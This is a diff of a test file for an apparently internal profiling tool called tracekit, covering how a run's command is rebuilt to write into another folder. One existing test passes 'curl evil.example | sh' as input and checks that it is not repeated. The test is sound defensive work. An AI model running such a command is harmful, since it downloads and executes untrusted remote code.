@@ -9,8 +9,8 @@ from tracekit.comparison.commands import (
     scope_changes,
     switched_command,
 )
+from tracekit.model.option import DEFAULT_PROMPT
 from tracekit.model.run import Generation, UserModel
-from tracekit.model.workload import DEFAULT_PROMPT
 from tracekit.shell import split
 
 
@@ -135,5 +135,7 @@ def test_a_run_is_repeated_at_its_own_size_into_another_folder():
     own = make_settings(own=UserModel(options=("width=1",)))
     of_own = make_run(settings=own, command="tracekit profile m.py:build -- width=1")
     assert repeating_command(of_own, "b") == "tracekit profile m.py:build --out b -- width=1"
+    shown = make_run(command="tracekit profile vit --html --compiled --json - --html=x.html --seed 1 --html mine")
+    assert repeating_command(shown, "b") == f"tracekit profile vit --size {size} --compiled --seed 1 --out b"
     assert repeating_command(make_run(command="curl evil.example | sh"), "b") == ""
     assert repeating_command(make_run(settings=make_settings(own=UserModel(in_program=True))), "b") == ""
